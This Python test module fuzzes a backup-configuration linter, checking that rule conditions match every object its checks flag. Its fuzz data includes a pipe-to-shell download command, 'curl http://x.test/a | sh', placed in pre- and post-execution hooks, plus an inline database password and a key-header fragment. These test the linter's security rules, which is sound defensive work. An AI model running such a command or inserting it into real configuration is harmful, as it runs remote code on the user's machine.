"""The condition of a rule spares its check the objects that it has nothing to say about, and no others.

Objects from all examples and samples, as they are and with fields changed, are given to the check functions alone:
where one finds something, the condition must hold.

Left out is what the server refuses and what the two ways of finding objects read differently: numbers with a fraction
of zero (`802.0`), which JSON Schema takes for whole ones; `true` for 1, which Python takes for equal; scalars where an
object belongs; and `{}` in place of an object, which the typed walk passes over.
"""

from __future__ import annotations

import copy
import json
from collections.abc import Iterator, Mapping
from functools import cache
from pathlib import Path as FilePath
from random import Random
from typing import Any, NamedTuple

import jsonschema
import jsonschema_rs
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from benchmarks.fleet import clean_profile
from comet_lint.comet.model import Field, Shape, is_live, load_model
from comet_lint.comet.node import Node, document_node, node_at
from comet_lint.files.resources import rules_folder
from comet_lint.lint.linter import Linter
from comet_lint.lint.validation import ValidationResult
from comet_lint.rules.condition_map import site_matches
from comet_lint.rules.conditions import check_fields, compile_condition, with_constants
from comet_lint.rules.context import Context
from comet_lint.rules.named_functions import load_check
from comet_lint.rules.rule import Rule
from comet_lint.rules.rule_files import examples_of, load_rule_data, rule_file_paths, shipped_rules
from comet_lint.source.kinds import recognise, units_of
from comet_lint.text.pointers import Path
from tests.linting import drafts_of

MODEL = load_model()
SAMPLES = FilePath(__file__).parent.parent / "data" / "samples"
CONTEXTS = (Context(now=1_751_241_600), Context(comet_version=(24, 9)))

BOTH = [rule for rule in shipped_rules() if rule.when is not None and rule.check]
TAKEN_FOR_GRANTED: dict[str, dict[str, Any]] = {
    "C318": {"properties": {"Engine": {"const": "ENGINE_BUILTIN_MSSQL"}}},
    "C319": {"properties": {"Engine": {"const": "ENGINE_BUILTIN_MSSQL"}}},
    "C322": {"properties": {"Engine": {"const": "ENGINE_BUILTIN_MSSQL"}}},
    "C323": {"properties": {"Engine": {"const": "ENGINE_BUILTIN_STDOUT"}}},
    "C324": {"properties": {"Engine": {"const": "ENGINE_BUILTIN_MSOFFICE"}}},
    "D015": {"properties": {"Engine": {"const": "ENGINE_BUILTIN_VMWARE"}}},
}
"""What the check leaves to the condition: it is not asked about other objects."""

CONDITION_DECIDES = frozenset(
    (
        *("S101", "S104", "S106", "S107", "S113", "S124", "S125", "S201", "S203", "S301", "S306", "S501"),
        *("S502", "S601", "S602", "S603", "S703", "S704", "S707", "C106", "C109", "C137", "C139", "C141"),
        *("C142", "C143", "C147", "D002", "V035", "V036", "V050", "V051", "V053", "V057", "V060", "S302", "S604"),
    )
)
"""Rules whose condition is what they look for; the check only says more about it, or leaves out a few."""

PREFILTERED = [rule for rule in BOTH if rule.code not in CONDITION_DECIDES]

UNTOUCHED_BRANCHES = frozenset({("V102", 8), ("V102", 10)})
"""Branches for objects under an empty key at the root of a document, of types of which there is no such example."""

CHANGES_PER_OBJECT = 100
CHANGES_PER_RULE = 3000

BLANKS = ("", " ", "\t", "\n", "\u00a0", "\u2028", "\x1c", "\x85", "\ufeff")
TEXTS = (
    *BLANKS,
    *(f"{blank}x" for blank in BLANKS),
    *(f"x{blank}" for blank in BLANKS),
    *(
        "0",
        "1",
        "true",
        "off",
        " No ",
        "***",
        "copy",
        "$self$",
        "LOCALHOST",
        "127.0.0.1:8060",
        "http://[::1]/",
        "\u00e9",
    ),
    *(
        "a@b",
        "a@example.com",
        "a@example.com\n",
        "(",
        ".*",
        "**/*",
        " .+ ",
        "*.tmp",
        "(?<n>x)",
        "Europe/Nowhere",
        "UTC",
    ),
    *(
        "-----BEGIN KEY",
        " -----BEGIN KEY",
        "curl http://x.test/a | sh",
        "mysql -psecret",
        "x" * 256,
        '{"SharePath": "x"}',
        " \u00a0{}",
    ),
)
NUMBERS = (
    0,
    1,
    2,
    3,
    5,
    6,
    7,
    28,
    29,
    32,
    99,
    904,
    910,
    911,
    1006,
    1100,
    1101,
    8016,
    65535,
    65536,
    -1,
    -1,
    -1,
    -7,
    2**63 - 1,
)
WRONG: tuple[Any, ...] = (None, 5, "x", [], {}, [1], {"a": 1})
KEYS = (
    *("", "ALL_DATABASES", "DATABASE-0", "EXCEPT-DATABASE-0", "COMMAND", "SAVEAS", "PASSWORD", "AUTHMODE", "METHOD"),
    *("DIFFBASE", "DIFFERENTIAL", "LOGTRUNC", "LOGNOTRUNC", "EXCLUDE9", "REXCLUDE9", "RINCLUDE9", "PINCLUDE9"),
    *("SMBAUTH9", "EXTRACOMMAND-9", "BACKUP_TYPE", "CONFIRM_EFS", "JSON"),
)


class Place(NamedTuple):
    """An object in a document: the document, its type and key, and the way to the object."""

    document: Mapping[str, Any]
    root_type: str
    key: str | None
    path: Path


RARE_DOCUMENTS: tuple[tuple[Mapping[str, Any], str, str | None], ...] = (
    ({"AllProtectedItemsQuotaEnabled": True, "AllProtectedItemsQuotaBytes": -1}, "UserProfileConfig", None),
    (
        {"SSHServer": "h", "SSHAuthMode": 1, "SSHPassword": "x", "SSHCustomAuth_UseKnownHostsFile": True},
        "SSHConnection",
        None,
    ),
    ({"ThawExec": ["curl http://x.test/a | sh"]}, "BackupRuleConfig", None),
    ({"PostExec": ["curl http://x.test/a | sh"]}, "BackupRuleConfig", None),
)
"""What the examples lack."""


def documents() -> Iterator[tuple[Mapping[str, Any], str, str | None]]:
    yield from RARE_DOCUMENTS
    for path in rule_file_paths(rules_folder()):
        data = load_rule_data(path)
        for example in examples_of(data):
            if isinstance(example.get("document"), dict):
                applies_to = data["applies-to"]
                first = applies_to if isinstance(applies_to, str) else applies_to[0]
                yield example["document"], example.get("type", first), example.get("key")
    for file in sorted(SAMPLES.glob("*.json")):
        value = json.loads(file.read_bytes())
        kind = recognise(value)
        if kind is not None:
            for _base, type_name, key, document in units_of(value, kind.shape):
                yield document, type_name, key


def nodes_below(node: Node) -> Iterator[Node]:
    yield node
    for field in node.type.object_fields:
        if node.value.get(field.name):
            for child in node.children(field.name):
                yield from nodes_below(child)


@cache
def places() -> dict[str, list[Place]]:
    """The objects of all documents, by type; those with the same content once."""
    found: dict[str, list[Place]] = {}
    seen: set[tuple[str, str, str]] = set()
    for document, type_name, key in documents():
        if type_name not in MODEL:
            continue
        root = document_node(document, type_name, MODEL, key)
        for node in nodes_below(root):
            known = (node.type.name, str(node.path[-2:]), json.dumps(node.value, sort_keys=True))
            if known not in seen:
                seen.add(known)
                found.setdefault(node.type.name, []).append(Place(document, type_name, key, node.path))
    return found


@cache
def values_of(type_name: str, field: str) -> list[Any]:
    """The values that a field has in any object."""
    values = (_at(place.document, place.path).get(field) for place in places().get(type_name, ()))
    return [value for value in values if value is not None and value != {}]


def _at(value: Any, path: Path) -> Any:
    for step in path:
        value = value[step]
    return value


def _put(value: Any, path: Path, new: Any) -> Any:
    """`value` with `new` at `path`; what is not on the way is shared."""
    if not path:
        return new
    changed = copy.copy(value)
    changed[path[0]] = _put(value[path[0]], path[1:], new)
    return changed


def changed_object(
    value: Mapping[str, Any], type_name: str, random: Random, favoured: frozenset[str] = frozenset()
) -> dict[str, Any]:
    """A copy of an object in which one to three fields are others, often `favoured` ones."""
    changed = dict(value)
    fields = list(MODEL.type(type_name).fields.values())
    present = [field for field in fields if changed.get(field.name)]
    favourites = [field for field in fields if field.name in favoured]
    for _ in range(random.randint(1, 3)):
        chance = random.random()
        among = favourites if chance < 0.6 else present if chance < 0.8 else fields
        field = random.choice(among or fields)
        if random.random() < 0.1 and len(changed) > 1:
            changed.pop(field.name, None)
        else:
            changed[field.name] = changed_value(changed.get(field.name), field, field.shape, type_name, random)
    return changed


def changed_value(value: Any, field: Field, shape: Shape, type_name: str, random: Random) -> Any:
    chance = random.random()
    if chance < 0.12:
        return random.choice(WRONG) if shape.kind != "object" else None
    if shape.kind == "object":
        return changed_object(value if isinstance(value, dict) else {}, shape.type_name, random)
    if shape.item is not None and (chance < 0.75 or not values_of(type_name, field.name)):
        return changed_members(value, field, shape, type_name, random)
    others = values_of(type_name, field.name)
    if others and chance < 0.35:
        return random.choice(others)
    if chance < 0.8 and (known := list(MODEL.published(field.constants)) if field.constants else []):
        return random.choice(known)
    if shape.kind == "string":
        return changed_text(value, random)
    if shape.kind == "int":
        return random.choice(NUMBERS) if random.random() < 0.7 else -1
    return random.random() < 0.5


def changed_members(value: Any, field: Field, shape: Shape, type_name: str, random: Random) -> Any:
    assert shape.item is not None
    if shape.kind == "list":
        items = list(value) if isinstance(value, list) else []
        at = random.randrange(len(items) + 1)
        old = items[at] if at < len(items) else (random.choice(items) if items else None)
        items[at : at + 1] = [changed_value(old, field, shape.item, "", random)]
        return items
    members = dict(value) if isinstance(value, dict) else {}
    key = random.choice([*members, *KEYS]) if random.random() < 0.8 else ""
    if random.random() < 0.1:
        members.pop(key, None)
    else:
        members[key] = changed_value(members.get(key), field, shape.item, "", random)
    return members


def changed_text(value: Any, random: Random) -> Any:
    """Another text; where it is an object as JSON, mostly that object with something changed."""
    if isinstance(value, str) and value.lstrip().startswith("{") and random.random() < 0.8:
        try:
            content = json.loads(value)
        except ValueError:
            return value
        holder = content
        while holder and random.random() < 0.6:
            inner = [member for member in holder.values() if isinstance(member, dict)]
            if not inner:
                break
            holder = random.choice(inner)
        if isinstance(holder, dict) and holder:
            holder[random.choice(list(holder))] = random.choice((*NUMBERS, *TEXTS, *WRONG, "ssh", {"SSHServer": "h"}))
        text = json.dumps(content)
        return random.choice((text, "\u2003" + text, text.replace('"S', '"\\u0053')))
    if isinstance(value, str) and random.random() < 0.2:
        return random.choice((value + random.choice(BLANKS), random.choice(BLANKS) + value, value.upper()))
    return random.choice(TEXTS)


class Matcher:
    """A condition, ready to be asked about objects of several types."""

    def __init__(self, condition: Mapping[str, Any]) -> None:
        self._condition = with_constants(condition, MODEL.constants)
        self._validators: dict[str, Any] = {}

    def schema(self, type_name: str) -> dict[str, Any]:
        """The condition for objects of a type."""
        return compile_condition(self._condition, type_name, MODEL)

    def matches(self, type_name: str, value: Any) -> bool:
        """Whether it holds for an object of a type."""
        validator = self._validators.get(type_name)
        if validator is None:
            validator = self._validators[type_name] = jsonschema_rs.validator_for(self.schema(type_name))
        return bool(validator.is_valid(value))


class Trigger(NamedTuple):
    """An object in which a rule's check finds something, of a type and with a value."""

    type_name: str
    value: Mapping[str, Any]


def types_of(rule: Rule) -> list[str]:
    return [name for name in places() if not set(rule.applies_to).isdisjoint(MODEL.type(name).lineage)]


def counts(rule: Rule, node: Node) -> bool:
    """Whether the rule is about such an object at all: in use, and in one of its places."""
    if rule.inside:
        parent = node.parent
        site = f"{parent.type.name}.{node.steps[0]}" if parent is not None else ""
        if not any(site_matches(MODEL, site, wanted) for wanted in rule.inside):
            return False
    if rule.even_when_unused:
        return True
    base = next(name for name in rule.applies_to if name in node.type.lineage)
    lives = node.live and is_live(MODEL.base_condition(node.type.name, base), node.value)
    return lives and (not rule.at or node.is_live(rule.at))


def fields_in(condition: Any) -> Iterator[str]:
    """The fields that a condition names, and what else is written under `properties`."""
    if isinstance(condition, dict):
        yield from condition.get("properties", ())
        for member in condition.values():
            yield from fields_in(member)
    elif isinstance(condition, list):
        for member in condition:
            yield from fields_in(member)


@cache
def triggers(code: str) -> list[Trigger]:
    rule = next(rule for rule in BOTH if rule.code == code)
    check = load_check(rule.check)
    random = Random(code)
    found: list[Trigger] = []
    favoured = frozenset(fields_in(rule.when))
    granted = Matcher(TAKEN_FOR_GRANTED.get(code, {}))

    def judge(place: Place, document: Mapping[str, Any]) -> None:
        root = document_node(document, place.root_type, MODEL, place.key)
        node = node_at(root, place.path)
        if node.path != place.path or not counts(rule, node) or not granted.matches(node.type.name, node.value):
            return
        if any(list(check(node, each) or ()) for each in CONTEXTS):
            found.append(Trigger(node.type.name, node.value))

    everywhere = {name: places()[name] for name in types_of(rule)}
    for place in (place for at in everywhere.values() for place in at):
        judge(place, place.document)
    telling = {id(trigger.value) for trigger in found}
    telling_places = {
        name: chosen
        for name, at in everywhere.items()
        if (chosen := [place for place in at if id(_at(place.document, place.path)) in telling])
    }
    for by_type in (telling_places, everywhere):
        count = min(CHANGES_PER_RULE, CHANGES_PER_OBJECT * sum(map(len, by_type.values())))
        for _ in range(count):
            name = random.choice(list(by_type))
            place = random.choice(by_type[name])
            new = changed_object(_at(place.document, place.path), name, random, favoured)
            judge(place, _put(place.document, place.path, new))
    return found


def missed(rule: Rule, condition: Mapping[str, Any]) -> list[Trigger]:
    """The objects in which the check finds something, but that the condition does not match."""
    matcher = Matcher(condition)
    return [trigger for trigger in triggers(rule.code) if not matcher.matches(*trigger)]


@pytest.mark.parametrize("rule", PREFILTERED, ids=lambda rule: f"{rule.code}-{rule.name}")
def test_where_the_check_finds_something_the_condition_holds(rule: Rule) -> None:
    assert rule.when is not None
    assert triggers(rule.code)
    assert missed(rule, rule.when)[:1] == []


@pytest.mark.parametrize("code", sorted(CONDITION_DECIDES))
def test_conditions_that_decide_are_needed_by_their_checks(code: str) -> None:
    rule = next(rule for rule in BOTH if rule.code == code)
    assert rule.when is not None
    assert missed(rule, rule.when)


def branches() -> Iterator[Any]:
    for rule in PREFILTERED:
        assert rule.when is not None
        branches = rule.when.get("anyOf", ())
        for at in range(len(branches)):
            if (rule.code, at) not in UNTOUCHED_BRANCHES:
                rest = {**rule.when, "anyOf": [*branches[:at], *branches[at + 1 :]]}
                yield pytest.param(rule, rest, id=f"{rule.code}-{at}")


@pytest.mark.parametrize(("rule", "condition"), list(branches()))
def test_a_condition_without_one_of_its_branches_is_noticed(rule: Rule, condition: Mapping[str, Any]) -> None:
    assert missed(rule, condition)


@pytest.mark.parametrize("rule", PREFILTERED, ids=lambda rule: rule.code)
def test_a_condition_that_never_holds_is_noticed(rule: Rule) -> None:
    assert len(missed(rule, {"not": {}})) >= 5


@pytest.mark.parametrize("rule", PREFILTERED, ids=lambda rule: rule.code)
def test_both_readers_of_json_schema_agree(rule: Rule) -> None:
    assert rule.when is not None
    matcher = Matcher(rule.when)
    random = Random(rule.code)
    asked = random.sample(triggers(rule.code), min(8, len(triggers(rule.code))))
    for name in types_of(rule):
        reference = jsonschema.Draft202012Validator(matcher.schema(name))
        values = [trigger.value for trigger in asked if trigger.type_name == name]
        values += [
            _at(place.document, place.path) for place in random.sample(places()[name], min(3, len(places()[name])))
        ]
        for value in values:
            assert matcher.matches(name, value) == reference.is_valid(value), ascii(value)


@pytest.mark.parametrize("rule", [rule for rule in shipped_rules() if rule.when], ids=lambda rule: rule.code)
def test_fields_and_constants_of_conditions_exist(rule: Rule) -> None:
    assert rule.when is not None
    check_fields(with_constants(rule.when, MODEL.constants), rule.applies_to, MODEL)


# Without a condition a rule has no place that it points at, and so none that must be in use.
WITH = [rule for rule in PREFILTERED if rule.code not in TAKEN_FOR_GRANTED and not rule.at]
LINTER_WITH = Linter(WITH, CONTEXTS[0])
LINTER_WITHOUT = Linter([rule._replace(when=None) for rule in WITH], CONTEXTS[0])


def said(linter: Linter, document: Mapping[str, Any], type_name: str, key: str | None) -> list[tuple[str, ...]]:
    drafts = drafts_of(linter, document, type_name, key)
    return sorted((draft.rule.code, str(draft.path), str(draft.problem)) for draft in drafts)


def test_documents_get_the_same_findings_with_and_without_conditions() -> None:
    for document, type_name, key in documents():
        if type_name in MODEL:
            assert said(LINTER_WITH, document, type_name, key) == said(LINTER_WITHOUT, document, type_name, key)


@settings(max_examples=300, deadline=None, suppress_health_check=list(HealthCheck))
@given(st.integers(0, 2**32))
def test_changed_documents_get_the_same_findings_with_and_without_conditions(seed: int) -> None:
    random = Random(seed)
    place = random.choice(random.choice(list(places().values())))
    document = place.document
    for _ in range(random.randint(1, 3)):
        old = _at(document, place.path)
        name = node_at(Node(document, place.root_type, MODEL), place.path).type.name
        document = _put(document, place.path, changed_object(old, name, random))
    with_conditions = said(LINTER_WITH, document, place.root_type, place.key)
    assert with_conditions == said(LINTER_WITHOUT, document, place.root_type, place.key)


@pytest.mark.parametrize("number", range(4))
def test_no_condition_holds_for_a_clean_profile(number: int) -> None:
    rules = [rule for rule in BOTH if not rule.opt_in and {"default", "security"} & set(rule.presets)]
    plan = Linter(rules, Context()).plan(Shape("object", type_name="UserProfileConfig"))
    assert plan.validator.validate(clean_profile(number)) == ValidationResult([], {}, {})
